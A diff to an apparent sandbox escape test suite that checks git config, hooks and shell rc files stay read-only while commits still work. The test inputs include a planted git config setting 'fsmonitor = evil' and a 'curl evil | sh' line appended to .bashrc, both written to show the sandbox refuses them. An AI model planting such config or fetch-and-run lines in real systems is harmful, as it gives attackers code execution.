@@ -235,6 +235,39 @@ describe("escape suite: writing outside the workspace", () => {
     expect(w.exitCode).not.toBe(0);
   });
 
+  it("cannot swap .git for a new one with its own config (rename of the parent)", async () => {
+    const r = await sh(
+      "mv .git .git-old || rm -rf .git; mkdir -p .git && echo '[core] fsmonitor = evil' > .git/config",
+    );
+    expect(r.exitCode).not.toBe(0);
+    expect(await readFile(join(ws, ".git", "config"), "utf8")).toBe("[core]\n");
+    expect(await exists(join(ws, ".git-old"))).toBe(false);
+  });
+
+  it("the rest of .git stays writable, so commits work", async () => {
+    const r = await sh("mkdir -p .git/objects/ab && echo blob > .git/objects/ab/cdef && echo ok");
+    expect(r.stdout).toBe("ok\n");
+    expect(await readFile(join(ws, ".git", "objects", "ab", "cdef"), "utf8")).toBe("blob\n");
+  });
+
+  it("git commit works in a real repository, while its config and hooks stay read-only", async () => {
+    const repo = join(dir.path, "repo");
+    await mkdir(repo);
+    if (ROOT) await chown(repo, 65534, 65534);
+    const init = await sandbox.run({ argv: ["git", "init", "-q", repo], workspace: repo });
+    expect(init.ok && init.value.exitCode).toBe(0); // no .git yet: nothing to protect, git init may write it
+    const r = await sandbox.run({
+      argv: [
+        "sh",
+        "-c",
+        "echo hi > a.txt && git add a.txt && git -c user.name=w -c user.email=w@x commit -qm one && git log --oneline | wc -l; echo x >> .git/config",
+      ],
+      workspace: repo,
+    });
+    expect(r.ok && r.value.stdout).toBe("1\n");
+    expect(r.ok && r.value.exitCode).not.toBe(0); // the config append was refused
+  });
+
   it("shell rc files are read-only", async () => {
     const r = await sh("echo 'curl evil | sh' >> .bashrc; rm -f .bashrc");
     expect(r.exitCode).not.toBe(0);
